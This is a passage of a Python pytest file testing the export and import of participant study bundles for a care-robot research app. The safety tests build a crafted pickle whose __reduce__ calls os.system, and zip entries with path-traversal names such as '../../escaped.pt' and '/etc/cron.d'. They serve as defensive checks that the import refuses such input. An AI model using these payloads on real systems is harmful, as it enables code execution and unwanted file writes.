            s.add_participant("20261121", notes="Anna, anna.schmidt@example.com", study="ward 0612345678")
            s.save_preferences("20261121", [dict(COUGH, description="mail anna@example.com")])
            s.close_day("20261121", s.open_day("20261121"))
            s.record_questionnaire("20261121", 7, "call me on 0612345678")
    with StudyStore(path) as s:  # the codes keep working where the study has them
        day = s.open_day("20261121")
        s.record_interaction("20261121", day, activity="cough", scene="bedroom", hour=8, interval_minutes=0,
                             robot_action="pain check", response="accept")
        first = export.export_study(s, tmp_path / "first")
    target = tmp_path / "b" / "moved.sqlite"
    restored = export.import_bundle(first.bundle, target)
    assert restored.interactions == 1
    kept = ("looks like contact details (a phone number or an e-mail address); imported as it was, as the study "
            "held it (the forms refuse it in new data)")
    assert restored.notes == (
        f"studies.csv, row 3, column name: '0612345678' {kept}",
        f"studies.csv, row 3, column description: '+44 20 7946 0958' {kept}",
        f"participants.csv, row 2, column participant: '20261121' looks like a phone number or a date; imported as it "
        "was, as the study held it (the forms refuse it in new data)",
        f"participants.csv, row 2, column notes: 'anna.schmidt@example.com' {kept}",
        f"preferences.csv, row 2, column preferences (preference 1's description): 'anna@example.com' {kept}",
        f"questionnaire.csv, row 2, column comments: '0612345678' {kept}")
    with StudyStore(target) as moved:
        assert moved.resume("20261121").total_interactions == 1
        second = export.export_study(moved, tmp_path / "second")
        with pytest.raises(CacasError, match="looks like a phone number or a date"):  # not for new participants
            moved.add_participant("0612345678")
    for name in ROUND_TRIP:
        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name


def test_studies_whose_names_differ_only_in_letter_case_are_restored_as_they_were_with_a_note(tmp_path):
    """create_study refuses a case twin of a study's name ("Default" beside "default"); a database
    from before holds them, and its backup restores them as they were, with a note, also a study's
    own export of "Default" into a new database, which has its own "default"."""
    path = tmp_path / "a" / "study.sqlite"
    with StudyStore(path) as s:
        with s._conn:  # as create_study wrote it before the check
            s._conn.execute("INSERT INTO studies (name, description, created_at) VALUES "
                            "('Default', '', '2026-01-05T10:00:00.000Z')")
        s.add_participant("P01")
        s.add_participant("W01", study="Default")
        first = export.export_study(s, tmp_path / "first")
        alone = export.export_study(s, tmp_path / "alone", study="Default")
    note = ("studies.csv, row 2, column name: 'Default' differs from study 'default' only in letter case; imported "
            "as it was, as the study held it (the forms refuse it in new data)")
    assert export.import_bundle(first.bundle, tmp_path / "b" / "moved.sqlite").notes == (note,)
    assert export.import_bundle(alone.bundle, tmp_path / "c" / "alone.sqlite").notes == (note,)
    with StudyStore(tmp_path / "b" / "moved.sqlite") as moved:
        assert [(p.code, p.study) for p in moved.list_participants()] == [("P01", "default"), ("W01", "Default")]
        second = export.export_study(moved, tmp_path / "second")
    for name in ROUND_TRIP:
        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name
    with StudyStore(tmp_path / "c" / "alone.sqlite") as moved:
        assert [s.name for s in moved.studies()] == ["Default", "default"]
        assert moved.get_participant("W01").study == "Default"


def test_a_participant_code_windows_keeps_for_a_device_is_restored_as_it_was_with_a_note(tmp_path):
    """A study from before the forms refused CON, NUL, COM1, ... as codes restores them as they were
    (the code is the participant's identity across files), saying that Windows cannot keep their
    policy files (policies/CON/)."""
    path = tmp_path / "a" / "study.sqlite"
    with StudyStore(path) as s:
        s.add_participant("P01")
        with s._conn:  # as add_participant wrote it before the check
            s._conn.execute("INSERT INTO participants (study_id, code, created_at, updated_at) VALUES "
                            "((SELECT id FROM studies WHERE name = 'default'), 'CON', '2026-01-05T10:00:00.000Z', "
                            "'2026-01-05T10:00:00.000Z')")
        bundle = export.export_study(s, tmp_path / "out").bundle
    restored = export.import_bundle(bundle, tmp_path / "b" / "moved.sqlite")
    assert restored.notes == ("participants.csv, row 2, column participant: 'CON' is a name Windows keeps for a "
                              "device: a participant's policy files go in a folder named by the code "
                              "(policies/<code>/), which Windows cannot make; imported as it was, as the study held "
                              "it (the forms refuse it in new data)",)


def test_participant_codes_that_differ_only_in_letter_case_are_restored_as_they_were_with_a_note(tmp_path):
    """add_participant refuses a case twin of a code in use (P01 and p01, in any study); a database
    from before the check holds both, and its backup restores each as itself, with a note on the
    second, as it notes a study's case twin (it imported without a word)."""
    path = tmp_path / "a" / "study.sqlite"
    with StudyStore(path) as s:
        s.create_study("pilot")
        s.add_participant("P01")
        s.add_participant("P02", study="pilot")
        with s._conn:  # as add_participant wrote them before the check
            s._conn.executemany("INSERT INTO participants (study_id, code, created_at, updated_at) VALUES "
                                "((SELECT id FROM studies WHERE name = ?), ?, '2026-01-05T10:00:00.000Z', "
                                "'2026-01-05T10:00:00.000Z')", [("default", "p01"), ("pilot", "p02")])
        first = export.export_study(s, tmp_path / "first")
    twin = ("differs from participant {!r} only in letter case; imported as it was, as the study held it (the "
            "forms refuse it in new data)")
    restored = export.import_bundle(first.bundle, tmp_path / "b" / "moved.sqlite")
    assert restored.notes == (f"participants.csv, row 4, column participant: 'p01' {twin.format('P01')}",
                              f"participants.csv, row 5, column participant: 'p02' {twin.format('P02')}")
    with StudyStore(tmp_path / "b" / "moved.sqlite") as moved:
        assert [(p.code, p.study) for p in moved.list_participants()] == [  # listed case-blind, then exactly
            ("P01", "default"), ("p01", "default"), ("P02", "pilot"), ("p02", "pilot")]
        second = export.export_study(moved, tmp_path / "second")
    for name in ROUND_TRIP:
        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name


def test_an_age_range_the_forms_took_before_their_bound_is_restored_as_it_was_with_a_note(tmp_path):
    """The forms took "200" as an age range before they refused ages above 120: such a study's export
    imports as it was, with a note; a range the forms never took is refused."""
    db = tmp_path / "a.sqlite"
    with StudyStore(db) as s:
        s.add_participant("P01", "25-34")
        s.add_participant("P02", "35-44")
    with sqlite3.connect(db) as c:  # as the store took it before
        c.execute("UPDATE participants SET age_range = '200' WHERE code = 'P02'")
    c.close()
    with StudyStore(db) as s:
        bundle = export.export_study(s, tmp_path / "first").bundle
    restored = export.import_bundle(bundle, tmp_path / "b" / "moved.sqlite")
    assert restored.notes == (
        "participants.csv, row 3, column age_range: age range '200' names an age above 120; imported as it was, "
        "as the study held it (the forms took such ages before they refused them)",)
    with StudyStore(tmp_path / "b" / "moved.sqlite") as moved:
        assert moved.get_participant("P02").age_range == "200"
    bad = _rewrite(bundle, tmp_path / "bad.zip", "participants", lambda df: df.assign(age_range="1000"))
    with pytest.raises(CacasError, match=rf"^{re.escape(str(bad))}: participants.csv, row 2: age range '1000' is "
                                         r"invalid; valid: e\.g\. "):
        export.import_bundle(bad, tmp_path / "c" / "moved.sqlite")


def test_times_record_interaction_stored_as_given_are_restored_as_they_were_with_notes(store, tmp_path):
    """Before record_interaction converted times to UTC it stored them as given: such a study's
    export imports as it was (a note each); a time that is no ISO 8601 time at all is refused."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    old = _rewrite(bundle, tmp_path / "old.zip", "interactions", lambda df: df.assign(
        time=["2026-11-21T10:00:00", "2026-11-21T11:00:00+01:00", "2026-11-21", "2026-11-21T12:00:00Z"]
        + list(df["time"][4:])))
    target = tmp_path / "b" / "moved.sqlite"
    restored = export.import_bundle(old, target)
    assert restored.notes == (
        "interactions.csv, row 2, column time: '2026-11-21T10:00:00' has no time zone, so which moment it "
        "names is not known; imported as it was, as the study held it (record_interaction stored such times "
        "before it refused them)",
        "interactions.csv, row 3, column time: '2026-11-21T11:00:00+01:00' is not in UTC as the app writes times "
        "('2026-11-21T10:00:00.000Z'); imported as it was, as the study held it (record_interaction stored such "
        "times before it converted them to UTC)",
        "interactions.csv, row 4, column time: '2026-11-21' is a date alone; imported as it was, as the "
        "study held it (record_interaction stored such times before it refused them)",
        "interactions.csv, row 5, column time: '2026-11-21T12:00:00Z' is in UTC, but not written as the app writes "
        "times ('2026-11-21T12:00:00.000Z'); imported as it was, as the study held it (record_interaction stored "
        "such times before it converted them to UTC)")
    with StudyStore(target) as moved:
        assert moved.interactions_frame()["time"].tolist()[:3] == ["2026-11-21T10:00:00", "2026-11-21T11:00:00+01:00",
                                                                   "2026-11-21"]


#: Every time column of a bundle but an interaction's ``time`` (written by validate.now()).
TIME_COLUMNS = [("studies", "created_at"), ("participants", "created_at"), ("participants", "updated_at"),
                ("preferences", "created_at"), ("days", "opened_at"), ("days", "closed_at"), ("policies", "created_at"),
                ("interactions", "created_at"), ("adaptations", "created_at"), ("questionnaire", "created_at"),
                ("events", "at")]


@pytest.mark.parametrize("table,column", TIME_COLUMNS)
@pytest.mark.parametrize("garbage", ["yesterday", "2026-13-45T10:00:00Z", ""])
def test_a_time_column_holding_no_time_is_refused_naming_file_row_and_column(bundle, tmp_path, table, column, garbage):
    """Review: only an interaction's time was checked; any text in created_at, opened_at, closed_at,
    updated_at or an event's at imported (times are compared as text: the questionnaire's day, the
    preference version in force for daily.csv's success ceiling)."""
    if (column, garbage) == ("closed_at", ""):
        garbage = "-"  # empty is a day still open
    bad = _rewrite(bundle, tmp_path / "bad.zip", table, lambda df: df.assign(**{
        column: df[column].where(df.index != 0, garbage)}))
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match="^" + re.escape(f"{bad}: {table}.csv, row 2, column {column}: {garbage!r} is "
                                                     "invalid; valid: an ISO 8601 time with a time zone, such as ")):
        export.import_bundle(bad, target)
    assert not target.parent.exists()


def test_times_an_import_took_unchecked_are_restored_as_they_were_with_notes(store, tmp_path):
    """A time column an import took unchecked (before it checked them) may hold a time in another ISO
    8601 form than the app writes: imported as it was, with a note, as an interaction's time is."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    old = _rewrite(bundle, tmp_path / "old.zip", "days", lambda df: df.assign(
        opened_at=["2026-11-21T11:00:00+01:00"] + list(df["opened_at"][1:]),
        closed_at=["2026-11-21 18:00"] + list(df["closed_at"][1:])))
    old = _rewrite(old, tmp_path / "older.zip", "events", lambda df: df.assign(
        at=["2026-11-21"] + list(df["at"][1:])))
    target = tmp_path / "b" / "moved.sqlite"
    why = "imported as it was, as the study held it (an import took such times before it checked them)"
    assert export.import_bundle(old, target).notes == (
        f"days.csv, row 2, column opened_at: '2026-11-21T11:00:00+01:00' is not in UTC as the app writes times "
        f"('2026-11-21T10:00:00.000Z'); {why}",
        f"days.csv, row 2, column closed_at: '2026-11-21 18:00' has no time zone, so which moment it names is "
        f"not known; {why}",
        f"events.csv, row 2, column at: '2026-11-21' is a date alone; {why}")
    with StudyStore(target) as moved:
        assert moved.days_frame()[["opened_at", "closed_at"]].iloc[0].tolist() == ["2026-11-21T11:00:00+01:00",
                                                                                  "2026-11-21 18:00"]


@pytest.mark.parametrize("keep", [0.5, 0.99])
def test_a_bundle_cut_short_is_said_so_not_called_another_file(bundle, tmp_path, keep):
    """Walkthrough: a cacas-study.zip cut short (a download or a copy that did not finish) was refused
    as "is not a study bundle (BadZipFile: File is not a zip file)", which sent the researcher to look
    for another file. It begins as a zip and lacks the zip's end: said so, with what to do."""
    data = bundle.read_bytes()
    cut = tmp_path / "cut.zip"
    cut.write_bytes(data[: int(len(data) * keep)])
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=r"^" + re.escape(
            f"{cut}: is cut short: it begins as a zip, but the zip's end (the list of its files) is missing, as when "
            "a download or a copy did not finish; valid: the whole cacas-study.zip as cacas export wrote it (export "
            "again, or use another copy); nothing was imported") + "$"):
        export.import_bundle(cut, target)
    assert not target.parent.exists()


@pytest.mark.parametrize("content, said", [(b"", "is empty"), (b"\xff\xfe\x00 not text", "is not text (UTF-8)")])
def test_a_table_of_the_bundle_that_cannot_be_read_is_named(bundle, tmp_path, content, said):
    """Walkthrough: a bundle whose interactions.csv was emptied, or replaced by bytes that are not text,
    was refused as "is not a study bundle (EmptyDataError: No columns to parse from file)" or "(UnicodeDecodeError:
    ...)", naming no file of the bundle. The table is named, as a damaged one is."""
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(bad, "w") as zout:
        for name in zin.namelist():
            zout.writestr(name, content if name == "interactions.csv" else zin.read(name))
    with pytest.raises(CacasError, match=r"^" + re.escape(f"{bad}: interactions.csv in the bundle {said}") + r".*; "
                                         r"valid: a CSV table as cacas export wrote it \(export again, or use another "
                                         r"copy\); nothing was imported$"):
        export.import_bundle(bad, tmp_path / "new.sqlite")
    assert not (tmp_path / "new.sqlite").exists()


def test_not_a_bundle(tmp_path):
    junk = tmp_path / "junk.zip"
    junk.write_text("not a zip")
    with pytest.raises(CacasError, match="junk.zip: is not a study bundle"):
        export.import_bundle(junk, tmp_path / "x.sqlite")
    with pytest.raises(CacasError, match="no such bundle"):
        export.import_bundle(tmp_path / "missing.zip", tmp_path / "x.sqlite")
    with zipfile.ZipFile(tmp_path / "empty.zip", "w") as zf:
        zf.writestr("hello.txt", "hi")
    with pytest.raises(CacasError, match="studies.csv is missing"):
        export.import_bundle(tmp_path / "empty.zip", tmp_path / "x.sqlite")
    assert not (tmp_path / "x.sqlite").exists()


def test_export_of_one_study(store, tmp_path):
    tables = export.export_tables(store, study="pilot")
    assert set(tables["participants"]["participant"]) == {"P02"}
    assert set(tables["interactions"]["participant"]) == {"P02"}
    assert tables["studies"]["name"].tolist() == ["pilot"]
    assert set(tables["events"]["participant"].dropna()) == {"P02"}
    assert tables["events"]["what"].iloc[0] == "create_study"  # its one event about no participant
    assert "create_study" not in export.export_tables(store, study="default")["events"]["what"].tolist()


def test_the_export_of_a_study_keeps_its_creation_and_imports_with_or_without_it(store, tmp_path):
    """Review: a study's export (the Results page's zip, `cacas export --study`) kept its
    participants' events but left out its own "create_study" event (stored with no participant), so
    the study imported from it had no record of its creation. A study's export written before
    imports as it did."""
    first = export.export_study(store, tmp_path / "first", study="pilot")
    events = pd.read_csv(first.tables["events"], keep_default_na=False)
    assert events[["what", "participant", "details"]].iloc[0].tolist() == ["create_study", "", '{"study": "pilot"}']
    export.import_bundle(first.bundle, tmp_path / "b" / "moved.sqlite")
    with StudyStore(tmp_path / "b" / "moved.sqlite") as moved:
        assert moved.events(what="create_study")["details"].tolist() == ['{"study": "pilot"}']
        second = export.export_study(moved, tmp_path / "second", study="pilot")
    for name in export.TABLES:
        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name
    older = _rewrite(first.bundle, tmp_path / "older.zip", "events", lambda df: df[df["what"] != "create_study"])
    assert export.import_bundle(older, tmp_path / "c" / "older.sqlite").interactions == 10
    with StudyStore(tmp_path / "c" / "older.sqlite") as moved:
        assert moved.events(what="create_study").empty
        assert [p.code for p in moved.list_participants("pilot")] == ["P02"]


def test_the_export_of_a_study_keeps_the_removal_of_its_participants(tmp_path):
    """Walkthrough: the Results page's zip (one study) lacked the "remove_participant" event that
    `cacas export` (the whole database) has: it is stored with no participant, and the study's
    events were its participants' only. A withdrawal's audit entry is the study's."""
    with StudyStore(tmp_path / "a" / "study.sqlite") as s:
        for code in ("P01", "P02"):
            s.add_participant(code)
        s.save_preferences("P02", [COUGH])
        s.remove_participant("P01", confirm="P01")
        study = export.export_study(s, tmp_path / "study", study="default")
        whole = export.export_study(s, tmp_path / "whole")
    for name in export.TABLES:  # one study in the database: its export is the whole database's
        assert study.tables[name].read_bytes() == whole.tables[name].read_bytes(), name
    events = pd.read_csv(study.tables["events"], keep_default_na=False)
    assert events["what"].tolist() == ["add_participant", "save_preferences", "remove_participant"]
    assert events["participant"].iloc[-1] == "" and events["details"].iloc[-1] == '{"code": "P01", "study": "default"}'


def test_a_removal_stored_before_is_in_its_own_studys_events_only(store, tmp_path):
    """A database already holds its removals as remove_participant stores them (no participant; the
    code and the study in the details, written by older code, keys in any order): each is one of
    its study's events, and details that are not JSON leave the event out rather than fail."""
    store.add_participant("P03", study="pilot")
    store.remove_participant("P03", confirm="P03")
    con = sqlite3.connect(store.path)
    with con:
        con.executemany("INSERT INTO events (at, what, participant, details) VALUES (?, 'remove_participant', NULL, ?)",
                        [("2026-01-05T10:00:00.000Z", '{"study":"default","code":"P09"}'),
                         ("2026-01-06T10:00:00.000Z", '{"code": "P08", "study": "pilot"}'),
                         ("2026-01-07T10:00:00.000Z", "not JSON: study pilot")])
    con.close()

    def removed(study):
        ev = export.export_tables(store, study)["events"]
        return ev.loc[ev["what"] == "remove_participant", "details"].tolist()

    assert [json.loads(d)["code"] for d in removed("default")] == ["P09"]
    assert [json.loads(d)["code"] for d in removed("pilot")] == ["P03", "P08"]
    assert len(removed(None)) == 4  # the whole database: every removal, the unreadable one too
    assert store.events(study="pilot", limit=1)["details"].tolist() == ['{"code": "P08", "study": "pilot"}']
    assert set(export.export_tables(store, "pilot")["events"]["participant"].dropna()) == {"P02"}


def test_interaction_names_survive_in_paper_spelling(store):
    inter = export.export_tables(store)["interactions"]
    assert set(inter["activity"]) <= set(spaces.ACTIVITIES)
    assert set(inter["robot_action"]) <= set(spaces.ACTIONS)


def test_times_survive_export_and_import_to_the_last_decimal(tmp_path):
    """A time just below a slot's end is kept as the 6 decimals the CSV holds, so the exported
    bundle imports (23.9999999 h was written as 24.000000 and refused)."""
    path = tmp_path / "a" / "s.sqlite"
    with StudyStore(path) as s:
        s.add_participant("P01")
        day = s.open_day("P01")
        s.record_interaction("P01", day, activity="cough", scene="bedroom", hour=23.9999999,
                             interval_minutes=4.9999999, robot_action="pain check", response="accept")
        row = s.interactions_frame("P01", extra=True).iloc[0]
        assert (row["hour"], row["interval_minutes"], row["time_slot"], row["interval"]) == (23.999999, 4.999999, 11, 2)
        bundle = export.export_study(s, tmp_path / "out").bundle
    assert export.import_bundle(bundle, tmp_path / "b" / "s.sqlite").interactions == 1


# --- what read_bundle lets through: only the tables and policies/<participant>/<checkpoint>.pt ------

def _with_entries(bundle, out, add=(), policies_csv=None):
    """A copy of ``bundle`` with extra zip entries ``add`` ((name, bytes) pairs) and, if given,
    policies.csv's path column changed by ``policies_csv(path) -> path``."""
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(out, "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == "policies.csv" and policies_csv is not None:
                df = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
                data = df.assign(path=df["path"].map(policies_csv)).to_csv(index=False).encode()
            zout.writestr(name, data)
        for name, data in add:
            zout.writestr(name, data)
    return out


class _RunsACommand:
    """Pickles to a call of os.system, as a crafted file would."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


@pytest.mark.parametrize("forged", ["text", "zip cut short", "pickle"])
def test_a_policy_file_that_is_not_a_policy_is_refused_even_with_its_sha256_and_size_edited(bundle, tmp_path, forged):
    """Safety: other bytes in a policy file's place, with policies.csv's sha256 and size edited to match,
    were imported (they failed only when the tablet loaded them). The import loads every policy file it brings
    as the tablet will (weights only: nothing in them runs), and refuses the bundle naming the file."""
    import pickle

    from cacas.store import files

    marker = tmp_path / "ran"
    forged = {"text": b"not a policy", "zip cut short": policy_bytes("a policy")[:5000],
              "pickle": pickle.dumps(_RunsACommand(marker), protocol=2)}[forged]
    with zipfile.ZipFile(bundle) as zf:
        first = pd.read_csv(io.BytesIO(zf.read("policies.csv")), dtype=str, keep_default_na=False)["path"][0]
    edit = {"sha256": files.sha256(forged), "size": str(len(forged))}
    out = tmp_path / "forged.zip"
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(out, "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == f"policies/{first}":
                data = forged
            elif name == "policies.csv":
                df = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
                for column, value in edit.items():
                    df.loc[df["path"] == first, column] = value
                data = df.to_csv(index=False).encode()
            zout.writestr(name, data)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError) as err:
        export.import_bundle(out, target)
    assert re.search(rf"forged\.zip: policies\.csv, row 2: policy file '{re.escape(first)}' is not a CACAS policy file "
                     r"\(\w+\); valid: a policy file as `cacas export` wrote it$", str(err.value)), str(err.value)
    assert not target.exists() and not target.parent.exists() and not marker.exists()


@pytest.mark.parametrize("entry", ["policies/../../escaped.pt", "policies//etc/cron.d/x.pt",
                                   "policies/P01/notes.txt", "policies/P01/sub/day1-cacas-0123abcd.pt"])
def test_bundle_with_an_unexpected_policy_file_is_refused(bundle, tmp_path, entry):
    bad = _with_entries(bundle, tmp_path / "bad.zip", add=[(entry, b"not a policy")])
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=f"bad.zip: unexpected file '{re.escape(entry)}' in the bundle"):
        export.import_bundle(bad, target)
    assert not target.exists() and not (tmp_path / "escaped.pt").exists()
    assert not target.parent.exists()  # nor an empty folder


@pytest.mark.parametrize("path", ["../x.pt", "/tmp/x.pt", "P01/../../x.pt", "P01/day1-cacas-0123abcd.txt"])
def test_bundle_naming_a_policy_path_outside_policies_is_refused(bundle, tmp_path, path):
    bad = _with_entries(bundle, tmp_path / "bad.zip", policies_csv=lambda _: path)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=f"policies.csv names an unexpected policy path '{re.escape(path)}'"):
        export.import_bundle(bad, target)
    assert not target.exists()
    assert not target.parent.exists()  # nor an empty folder


def test_other_files_in_the_zip_are_never_written(store, tmp_path):
    """Only the tables and the policies/ checkpoints are read; anything else (even a name that
    climbs out of the folder) is left in the zip."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    odd = _with_entries(bundle, tmp_path / "odd.zip", add=[("../outside.txt", b"x"), ("readme.txt", b"y")])
    target = tmp_path / "new" / "study.sqlite"
    assert export.import_bundle(odd, target).interactions == 20
    written = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()}
    assert not {"outside.txt", "new/readme.txt", "readme.txt"} & written
    assert sorted(p.name for p in (target.parent / "policies").rglob("*") if p.is_file()) == sorted(
        p.rsplit("/", 1)[-1] for p in pd.read_csv(tmp_path / "out" / "policies.csv")["path"])


# --- restore's consistency checks: a bundle that does not fit together writes nothing --------------

def _counts(path):
    con = sqlite3.connect(path)
    try:
        names = [n for (n,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                           "AND name NOT LIKE 'sqlite_%'")]
        return {n: con.execute(f'SELECT COUNT(*) FROM "{n}"').fetchone()[0] for n in names}
    finally:
        con.close()


@pytest.fixture
def bundle_tables(bundle):
    return export.read_bundle(bundle)


@pytest.mark.parametrize("table,change,message", [
    ("participants", lambda df: df.assign(study=df["study"].replace("pilot", "ghost")),
     "participants.csv, row 3: participant P02 is in study 'ghost', which studies.csv does not have; valid: a "
     "study studies.csv lists"),
    ("participants", lambda df: df.assign(active_policy=df["active_policy"].where(df.index != 0, "9")),
     "participants.csv, row 2: participant P01's policy in force is version 9, which policies.csv does not have"),
    ("days", lambda df: df.assign(participant=df["participant"].replace("P02", "P09")),
     "days.csv names participant 'P09', which participants.csv does not have"),
    ("questionnaire", lambda df: df.assign(participant=df["participant"].replace("P01", "P07")),
     "questionnaire.csv names participant 'P07', which participants.csv does not have"),
    ("interactions", lambda df: df.assign(day=df["day"].where(df.index != 6, "3")),
     "interactions.csv, row 8: day 3 of participant P01 is not in days.csv; valid: one that days.csv lists for them"),
    # record_adaptation and save_policy refuse a day the participant does not have; the foreign keys do not
    ("adaptations", lambda df: df.assign(day=df["day"].where(df.index != 0, "9")),
     "adaptations.csv, row 2: participant P01 has no day 9 in days.csv"),
    ("policies", lambda df: df.assign(day=df["day"].where(df.index != 0, "9")),
     "policies.csv, row 2: participant P01 has no day 9 in days.csv"),
    # a row twice: the database said only "UNIQUE constraint failed: interactions.participant_id, ..."
    ("interactions", lambda df: pd.concat([df, df.iloc[[1]]], ignore_index=True),
     "interactions.csv, row 22: participant P01, day 1, index 2 is listed twice (rows 3 and 22); valid: one row "
     "for each participant and day and index"),
    ("policies", lambda df: pd.concat([df, df.iloc[[0]]], ignore_index=True),
     "is listed twice (rows 2 and"),
    ("preferences", lambda df: pd.concat([df, df.iloc[[0]]], ignore_index=True),
     "participant P01, version 1 is listed twice (rows 2 and"),
    ("participants", lambda df: pd.concat([df, df.iloc[[0]]], ignore_index=True),
     "participant P01 is listed twice (rows 2 and"),
])
def test_restore_refuses_tables_that_do_not_fit_and_writes_nothing(bundle_tables, tmp_path, table, change,
                                                                   message):
    tables, policies = bundle_tables
    with StudyStore(tmp_path / "fresh.sqlite") as fresh:
        before = _counts(fresh.path)
        with pytest.raises(CacasError, match=re.escape(message)):
            restore(fresh, {**tables, table: change(tables[table])}, policies)
        assert _counts(fresh.path) == before
        assert restore(fresh, tables, policies).interactions == 20  # the same tables, unchanged, restore


def test_restore_refuses_a_missing_table_or_policy_file_and_writes_nothing(bundle_tables, tmp_path):
    tables, policies = bundle_tables
    first = sorted(policies)[0]
    with StudyStore(tmp_path / "fresh.sqlite") as fresh:
        before = _counts(fresh.path)
        with pytest.raises(CacasError, match="^events.csv is missing from the bundle$"):
            restore(fresh, {n: t for n, t in tables.items() if n != "events"}, policies)
        with pytest.raises(CacasError, match=f"^policies.csv, row 2: policy file '{first}' is missing from the "
                                             f"bundle$"):
            restore(fresh, tables, {rel: data for rel, data in policies.items() if rel != first})
        assert _counts(fresh.path) == before


def test_import_beside_a_policy_file_with_other_content_is_refused_and_leaves_it(store, tmp_path):
    """A checkpoint of the same name already in the target's policies/ folder (another study's,
    edited by hand) is never overwritten: the import is refused, and the checkpoints it had
    written before meeting it are removed again."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    last = sorted(export.read_bundle(bundle)[1])[-1]
    target = tmp_path / "new" / "study.sqlite"
    clash = target.parent / "policies" / last
    clash.parent.mkdir(parents=True)
    clash.write_bytes(b"another study's policy")
    with pytest.raises(CacasError, match=f"^{re.escape(str(clash))}: exists with other content; move it away and "
                                         f"import again$"):
        export.import_bundle(bundle, target)
    assert sorted(target.parent.rglob("*")) == [clash.parent.parent, clash.parent, clash]  # no folder of its own
    assert clash.read_bytes() == b"another study's policy"


def test_a_database_created_meanwhile_at_the_target_is_kept(store, tmp_path, monkeypatch):
    """Two imports into one new file at once: the one that finishes second finds the file there
    when it links its database into place; it refuses, and leaves the other's file and nothing
    of its own."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    target = tmp_path / "new" / "study.sqlite"

    def restore_while_another_import_finishes(*args):
        target.write_bytes(b"the other import's database")
        return restore(*args)

    monkeypatch.setattr(export, "restore", restore_while_another_import_finishes)
    with pytest.raises(CacasError, match=f"^{re.escape(str(target))}: already exists; import only into a new "
                                         f"database file$"):
        export.import_bundle(bundle, target)
    assert [p for p in target.parent.rglob("*") if p.is_file()] == [target]
    assert target.read_bytes() == b"the other import's database"


def test_restore_refuses_a_database_that_has_participants(store, bundle_tables):
    before = _counts(store.path)
    with pytest.raises(CacasError, match="already holds participants; import into a new database"):
        restore(store, *bundle_tables)
    assert _counts(store.path) == before


def test_a_checkpoint_policies_csv_does_not_list_is_refused(store, tmp_path):
    """A well-named checkpoint that no policies.csv row lists would be written beside the study's
    own checkpoints and never used: the bundle is refused instead."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    stray = "policies/P01/day9-cacas-0123abcd.pt"
    bad = _with_entries(bundle, tmp_path / "bad.zip", add=[(stray, b"not listed")])
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match="bad.zip: policies/P01/day9-cacas-0123abcd.pt is in the bundle but not "
                                         "in policies.csv; valid: only the checkpoints policies.csv lists"):
        export.import_bundle(bad, target)
    assert not target.exists()
    assert not target.parent.exists()  # nor an empty folder


@pytest.mark.parametrize("clock", ["running", "stopped"])
def test_preferences_edited_mid_study_leave_the_closed_days_ceiling_as_it_was(tmp_path, monkeypatch, clock):
    """daily.csv's success ceiling scores each interaction against the described preferences saved
    by then: a version saved after day 1 changed day 1's ceiling (0.67 -> 0.73 in a walkthrough).
    With the clock stopped (every write in one millisecond, which a fast disk made happen in about 3
    runs in 100), the order of the writes still decides."""
    from datetime import datetime, timezone

    from cacas.store import validate

    if clock == "stopped":
        class Stopped(datetime):
            @classmethod
            def now(cls, tz=None):
                return datetime(2026, 1, 5, 9, 0, 0, 123456, tzinfo=timezone.utc)
        monkeypatch.setattr(validate, "datetime", Stopped)
        monkeypatch.setattr(validate, "_last_now", datetime.min.replace(tzinfo=timezone.utc))  # restored after
    with StudyStore(tmp_path / "s.sqlite") as s:
        s.add_participant("P01")
        s.save_preferences("P01", [COUGH])
        for d in (1, 2):
            day = s.open_day("P01")
            for activity in ("cough", "use stove"):
                s.record_interaction("P01", day, activity=activity, scene="kitchen", hour=8, interval_minutes=5,
                                     robot_action="pain check", response="accept")
            s.close_day("P01", day)
            if d == 1:  # the stove, described after day 1
                s.save_preferences("P01", [COUGH, {"activity": ["use stove"], "action": "remind to turn off"}])
        daily = export.export_tables(s)["daily"].set_index(["participant", "method", "day"])
    assert daily.loc[("P01", "cacas", 1), "success_ceiling"] == 0.5   # cough only, as on day 1
    assert daily.loc[("P01", "cacas", 2), "success_ceiling"] == 1.0   # cough and the stove


def test_a_time_given_with_an_offset_is_scored_against_the_preferences_saved_by_that_moment(tmp_path):
    """daily.csv's success ceiling compares an interaction's time with each preference version's
    created_at as text: a time stored with its offset ("...+01:00") sorted after a version saved
    half an hour later, and was scored against it."""
    from datetime import datetime, timedelta, timezone

    with StudyStore(tmp_path / "s.sqlite") as s:
        s.add_participant("P01")
        s.save_preferences("P01", [COUGH])
        day = s.open_day("P01")
        s.save_preferences("P01", [COUGH, {"activity": ["use stove"], "action": "remind to turn off"}])
        saved = datetime.fromisoformat(s.preference_versions("P01")[-1]["created_at"].replace("Z", "+00:00"))
        when = saved - timedelta(minutes=30)  # before the stove was described
        s.record_interaction("P01", day, activity="use stove", scene="kitchen", hour=8, interval_minutes=5,
                             robot_action="pain check", response="accept",
                             time=when.astimezone(timezone(timedelta(hours=1))).isoformat())
